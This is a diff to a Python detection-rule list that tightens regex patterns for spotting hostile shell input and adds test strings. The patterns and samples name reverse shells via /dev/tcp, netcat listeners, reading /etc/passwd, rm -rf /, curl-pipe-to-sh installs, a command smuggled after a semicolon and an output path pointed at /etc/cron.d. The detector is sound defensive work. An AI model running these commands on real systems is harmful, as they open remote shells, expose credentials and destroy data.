@@ -50,16 +50,18 @@ COMMANDS: tuple[Rule, ...] = (
         r"\b(?:cat|head|tail|more|less|nl|tac|vi|nano) (?:-\w+ )?/?(?:etc/(?:passwd|shadow|hosts"
         r"|group)|proc/)"
         r"|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat) (?:-\w+ )*-?[elvnp]+ |\bmkfifo /|\bbash -i\b"
-        r"|/bin/(?:ba|z|k|c|da)?sh -[ci]|\brm -rf? /(?:\*| |$)|^rm -rf? /\w"
+        r"|/bin/(?:ba|z|k|c|da)?sh -[ci]|\brm -rf? /(?:\*| |$)|(?:^|[;|`(] ?)rm -rf? /\w"
         r"|\bpowershell(?:\.exe)? -(?:enc?"
         r"|e |nop|w"
         r"|c |ep|exec)|\bcmd(?:\.exe)? ?/[ck] |certutil(?:\.exe)? -urlcache|bitsadmin /transfer"
         r"|invoke-expression|\biex ?\( ?new|downloadstring ?\(|wget http[^ \n]+ ?(?:-o|;|&|\|)"
-        r"|\bpython[\d.]* -c import|\bperl -e |\bchmod (?:\+x|777) |^curl [^|\n]*\| ?(?:ba)?sh$"
+        r"|\bpython[\d.]* -c import|\bperl -e |\bchmod (?:\+x|777) "
+        r"|(?:^|[;|`(] ?)curl [^|\n]*\| ?(?:ba)?sh$"
         r"|\bnslookup [\w.-]*(?:oast|interact|burp|dnslog)|\.(?:oast|interactsh|dnslog|ceye)\.\w+"
         r"|burpcollaborator|--(?:checkpoint-action|use-compress-program|upload-pack|pre-invoke)="
         r"|^-{1,2}o? ?proxycommand\b"
-        r"|^--?\w[\w-]*[= ]/(?:etc|root|boot|usr/s?bin|var/(?:www|spool))/"
+        r"|^--?(?:o|out\w*|output[\w-]*|log-?file|pid-?file|dump[\w-]*)[= ]"
+        r"/(?:etc|root|boot|usr/s?bin|var/(?:www|spool))/"
         r"|(?:\$0|\bsh) ?<<< ?\w|(?:;\w{1,9}=[^ ;\n]{1,20}){2,}; ?\$\w",
         *(
             (
@@ -69,10 +71,13 @@ COMMANDS: tuple[Rule, ...] = (
                 *("ceye", "-", "proxycommand", "<<<", ";$", "; $"),
             ),
         ),
-        ("bash -i >& /dev/tcp/1.2.3.4/80", "cat /etc/passwd", "rm -rf /", "cmd.exe /c dir"),
+        (
+            *("bash -i >& /dev/tcp/1.2.3.4/80", "cat /etc/passwd", "rm -rf /", "cmd.exe /c dir"),
+            *("a photo; rm -rf /srv/www", "--output=/etc/cron.d/x"),
+        ),
         (
             *("concatenate /etc", "the bash shell", "#!/bin/bash", "RUN a && rm -rf /var/cache/*"),
-            "Install it: curl https://a.example/i.sh | sh",
+            *("Install it: curl https://a.example/i.sh | sh", "--config=/etc/app/app.yaml"),
         ),
         _SHELL,
     ),
